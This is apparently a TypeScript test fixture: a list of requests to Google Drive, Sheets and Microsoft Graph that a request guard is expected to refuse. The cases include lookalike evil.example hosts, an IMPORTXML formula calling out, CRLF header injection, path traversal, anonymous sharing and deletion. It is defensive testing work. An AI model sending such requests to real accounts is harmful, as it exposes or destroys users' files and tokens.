import { ACCESS_TOKEN, UPLOAD_HOST } from './cloud.ts';
import {
  type Case,
  TOKEN_URL,
  SHEETS,
  DRIVE,
  UPLOAD,
  LOGIN,
  GRAPH,
  SPREADSHEET,
  XLSX,
  google,
  files,
  book,
  form,
  codeForm,
  refreshForm,
  values,
  batch,
} from './cloud-cases.ts';

/** Requests that share, read, move or hide something, or go elsewhere. */
export const REFUSED: readonly (readonly [why: string, request: Case])[] = [
  ['another host', google('https://sheets.googleapis.com.evil.example/v4/spreadsheets/1')],
  ['a host of Google that is not used', google('https://gmail.googleapis.com/gmail/v1/users/me/messages')],
  [
    'the token in an address',
    form('google account', 'https://oauth2.googleapis.com/revoke?token=1//r', { token: '1//r' }),
  ],
  ['the access token in an address', google(`${DRIVE}/about?fields=user&access_token=${ACCESS_TOKEN}`)],
  ['plain http', google('http://sheets.googleapis.com/v4/spreadsheets/1')],
  ['another port', google('https://sheets.googleapis.com:8443/v4/spreadsheets/1')],
  ['a user name in the address', google('https://me@sheets.googleapis.com/v4/spreadsheets/1')],
  ['a fragment', google(`${SHEETS}/1#a`)],
  ['a backslash', google('https://sheets.googleapis.com\\v4/spreadsheets/1')],
  ['a dot segment', google(`${DRIVE}/files/../about`)],
  ['an encoded dot segment', google(`${DRIVE}/files/%2e%2e/about`)],
  ['no token', { ...google(`${DRIVE}/about?fields=user`), accessToken: null }],
  ['a token with a line break', { ...google(`${DRIVE}/about?fields=user`), accessToken: 'a\r\nHost: evil' }],
  [
    'a token towards the token endpoint',
    { ...form('google account', TOKEN_URL, refreshForm), accessToken: ACCESS_TOKEN },
  ],
  ['a purpose that does not fit', { ...google(`${DRIVE}/about?fields=user`), purpose: 'microsoft files' }],
  ['another grant', form('google sign in', TOKEN_URL, { ...codeForm, grant_type: 'password' })],
  ['a field that is not used', form('google sign in', TOKEN_URL, { ...codeForm, assertion: 'x' })],
  [
    'a field given twice',
    { ...form('google sign in', TOKEN_URL, codeForm), body: 'grant_type=refresh_token&grant_type=password' },
  ],
  ['an empty form', form('google account', TOKEN_URL, {})],
  [
    'a form that says it is JSON',
    { ...form('google account', TOKEN_URL, refreshForm), headers: { 'Content-Type': 'application/json' } },
  ],
  ['the content of a file', google(`${DRIVE}/files/1AbC?alt=media`)],
  ['an export of a file', google(`${DRIVE}/files/1AbC/export?mimeType=text/csv`)],
  ['sharing a file', google(`${DRIVE}/files/1AbC/permissions`, 'POST', { role: 'reader', type: 'anyone' })],
  ['a copy of a file', google(`${DRIVE}/files/1AbC/copy`, 'POST', {})],
  ['emptying the bin', google(`${DRIVE}/files/trash`, 'POST')],
  ['deleting with a query', google(`${DRIVE}/files/1AbC?supportsAllDrives=true`, 'DELETE')],
  ['moving a file', google(`${DRIVE}/files/1AbC?addParents=2`, 'PATCH', { name: 'x' })],
  ['changing who may see a file', google(`${DRIVE}/files/1AbC`, 'PATCH', { writersCanShare: true })],
  ['watching a file', google(`${DRIVE}/files/1AbC/watch`, 'POST', { address: 'https://evil.example' })],
  ['other drives', google(`${DRIVE}/files?corpora=allDrives`)],
  ['an upload of another kind', google(`${UPLOAD}?uploadType=media`, 'POST')],
  [
    'an upload that stays a file',
    google(`${UPLOAD}?uploadType=resumable`, 'POST', { name: 'x', mimeType: 'text/html' }),
  ],
  [
    'an upload in one request that stays a file',
    {
      ...google(`${UPLOAD}?uploadType=multipart`, 'POST'),
      headers: { 'Content-Type': 'multipart/related; boundary=b' },
      body: '--b\r\nContent-Type: application/json\r\n\r\n{"name":"x","mimeType":"text/html"}\r\n--b\r\n\r\n<p>\r\n--b--',
    },
  ],
  [
    'an upload in one request that does not say what it is',
    {
      ...google(`${UPLOAD}?uploadType=multipart`, 'POST'),
      headers: { 'Content-Type': 'multipart/related; boundary=b' },
      body: '--b--',
    },
  ],
  [
    'an upload into a folder',
    google(`${UPLOAD}?uploadType=resumable`, 'POST', { mimeType: SPREADSHEET, parents: ['1'] }),
  ],
  ['an upload without its session', google(`${UPLOAD}?uploadType=resumable`, 'PUT')],
  ['a session at another path', google(`${DRIVE}/files?uploadType=resumable&upload_id=1`, 'PUT')],
  ['values as typed', values({ valueInputOption: 'USER_ENTERED', data: [] })],
  ['values without saying how', values({ data: [] })],
  ['values in another spelling', values({ valueInputOption: 'RAW', value_input_option: 'USER_ENTERED', data: [] })],
  [
    'values said twice',
    { ...values({}), body: '{"valueInputOption":"RAW","valueInputOption":"USER_ENTERED","data":[]}' },
  ],
  [
    'values by the query',
    google(`${SHEETS}/1AbC/values/A1?valueInputOption=USER_ENTERED`, 'PUT', { values: [['=1']] }),
  ],
  [
    'values by append',
    google(`${SHEETS}/1AbC/values/A1:append?valueInputOption=USER_ENTERED`, 'POST', { values: [['=1']] }),
  ],
  [
    'values by a filter',
    google(`${SHEETS}/1AbC/values:batchUpdateByDataFilter`, 'POST', { valueInputOption: 'USER_ENTERED' }),
  ],
  ['values that are no object', { ...values({}), body: '[1]' }],
  ['values that are no JSON', { ...values({}), body: '{"valueInputOption":"RAW"' }],
  [
    'a formula',
    batch({
      updateCells: {
        rows: [{ values: [{ userEnteredValue: { formulaValue: '=IMPORTXML("https://evil.example")' } }] }],
      },
    }),
  ],
  [
    'a formula in another spelling',
    batch({ updateCells: { rows: [{ values: [{ user_entered_value: { formula_value: '=1' } }] }] } }),
  ],
  [
    'a formula under an escaped name',
    {
      ...batch(),
      body: '{"requests":[{"updateCells":{"rows":[{"values":[{"userEnteredValue":{"formul\\u0061Value":"=1"}}]}]}}]}',
    },
  ],
  [
    'a formula in a new spreadsheet',
    google(SHEETS, 'POST', {
      sheets: [{ data: [{ rowData: [{ values: [{ userEnteredValue: { formulaValue: '=1' } }] }] }] }],
    }),
  ],
  ['pasting as typed', batch({ pasteData: { data: '=1', type: 'PASTE_NORMAL' } })],
  ['a data source', batch({ addDataSource: {} })],
  ['two requests in one', batch({ addSheet: {}, pasteData: {} })],
  ['a batch that is no list', google(`${SHEETS}/1AbC:batchUpdate`, 'POST', { requests: {} })],
  ['copying a sheet elsewhere', google(`${SHEETS}/1AbC/sheets/0:copyTo`, 'POST', { destinationSpreadsheetId: '2' })],
  ['a changed method', { ...google(`${SHEETS}/1AbC`), headers: { 'X-HTTP-Method-Override': 'DELETE' } }],
  [
    'an Authorization of the caller',
    { ...google(`${DRIVE}/about?fields=user`), headers: { Authorization: 'Bearer other' } },
  ],
  ['a cookie', { ...google(`${DRIVE}/about?fields=user`), headers: { Cookie: 'a=b' } }],
  [
    'a header given twice',
    { ...google(`${DRIVE}/about?fields=user`), headers: { Accept: 'application/json', accept: 'application/json' } },
  ],
  ['a header with a line break', { ...google(`${DRIVE}/about?fields=user`), headers: { Prefer: 'a\r\nX: y' } }],
  ['a parameter given twice', google(`${DRIVE}/about?fields=user&fields=*`)],
  ['a body where none belongs', { ...google(`${DRIVE}/files/1AbC`, 'DELETE'), body: 'x' }],

  [
    'another sign-in host',
    form('microsoft sign in', 'https://login.microsoftonline.us/common/oauth2/v2.0/token', refreshForm),
  ],
  [
    'discovery of another authority',
    {
      purpose: 'microsoft sign in',
      method: 'GET',
      accessToken: null,
      url: `${LOGIN}/common/discovery/instance?api-version=1.1&authorization_endpoint=https://evil.example/`,
    },
  ],
  ['device codes', form('microsoft sign in', `${LOGIN}/common/oauth2/v2.0/devicecode`, { client_id: 'c' })],
  ['a client secret at Microsoft', form('microsoft sign in', `${LOGIN}/common/oauth2/v2.0/token`, codeForm)],
  ['mail', files('/me/messages')],
  ['the beta of Graph', { ...files('/x'), url: 'https://graph.microsoft.com/beta/me/drive' }],
  ['somebody else’s drive by name', files('/users/eve@contoso.com/drive/root')],
  ['several requests in one', { ...files('/x', 'POST', { requests: [] }), url: `${GRAPH}/$batch` }],
  ['the content of a workbook', files('/drives/b!aB-9_x/items/01ABC/content')],
  [
    'a link for everybody',
    files('/drives/b!aB-9_x/items/01ABC/createLink', 'POST', { type: 'view', scope: 'anonymous' }),
  ],
  ['an invitation', files('/drives/b!aB-9_x/items/01ABC/invite', 'POST', {})],
  ['a copy in another drive', files('/drives/b!aB-9_x/items/01ABC/copy', 'POST', {})],
  ['moving an item', files('/drives/b!aB-9_x/items/01ABC', 'PATCH', { parentReference: { id: '2' } })],
  [
    'a file by its address',
    files('/me/drive/root/children', 'POST', {
      name: 'x',
      folder: {},
      '@microsoft.graph.sourceUrl': 'https://evil.example',
    }),
  ],
  [
    'an upload from an address',
    files('/me/drive/root:/a.xlsx:/createUploadSession', 'POST', {
      item: { '@content.sourceUrl': 'https://evil.example' },
    }),
  ],
  ['a file instead of a folder', files('/me/drive/root/children', 'POST', { name: 'x' })],
  [
    'an encoded slash in a name',
    { ...files('/me/drive/root:/a%2Fb.xlsx:/content', 'PUT'), headers: XLSX, body: new Uint8Array(1) },
  ],
  [
    'a name encoded twice',
    { ...files('/me/drive/root:/a%252Fb.xlsx:/content', 'PUT'), headers: XLSX, body: new Uint8Array(1) },
  ],
  [
    'a name that leads up',
    { ...files('/me/drive/root:/a/%2E%2E:/content', 'PUT'), headers: XLSX, body: new Uint8Array(1) },
  ],
  [
    'replacing by another rule',
    {
      ...files('/me/drive/root:/a.xlsx:/content?@microsoft.graph.conflictBehavior=all', 'PUT'),
      headers: XLSX,
      body: new Uint8Array(1),
    },
  ],
  [
    'a page as a file',
    {
      ...files('/me/drive/root:/a.html:/content', 'PUT'),
      headers: { 'Content-Type': 'text/html' },
      body: new Uint8Array(1),
    },
  ],
  ['formulas', book("/worksheets/Fields/range(address='A1')", 'PATCH', { formulas: [['=1']] })],
  [
    'formulas among values',
    book("/worksheets/Fields/range(address='A1')", 'PATCH', { values: [['a']], formulasLocal: [['=1']] }),
  ],
  ['a chart', book('/worksheets/Fields/charts/add', 'POST', {})],
  ['a name in the workbook', book('/names/add', 'POST', { name: 'x', reference: '=A1' })],
  ['a workbook function', book('/functions/webservice', 'POST', {})],
  ['a workbook by path', { ...book(''), url: `${GRAPH}/me/drive/root:/a.xlsx:/workbook/worksheets` }],
  [
    'an upload to a host that is not Microsoft’s',
    { purpose: 'microsoft upload', method: 'GET', accessToken: null, url: 'https://sharepoint.com.evil.example/up' },
  ],
  [
    'an upload over http',
    { purpose: 'microsoft upload', method: 'GET', accessToken: null, url: 'http://contoso.sharepoint.com/up' },
  ],
  ['the token to an upload address', { purpose: 'microsoft upload', method: 'GET', url: `${UPLOAD_HOST}/up` }],
  [
    'an upload address that nobody named',
    {
      purpose: 'microsoft upload',
      method: 'PUT',
      accessToken: null,
      url: `${UPLOAD_HOST}/up?tempauth=1`,
      headers: { 'Content-Type': 'application/octet-stream' },
      body: new Uint8Array(3),
    },
  ],
  [
    'ending an upload that nobody named',
    { purpose: 'microsoft upload', method: 'DELETE', accessToken: null, url: `${UPLOAD_HOST}/up` },
  ],
];
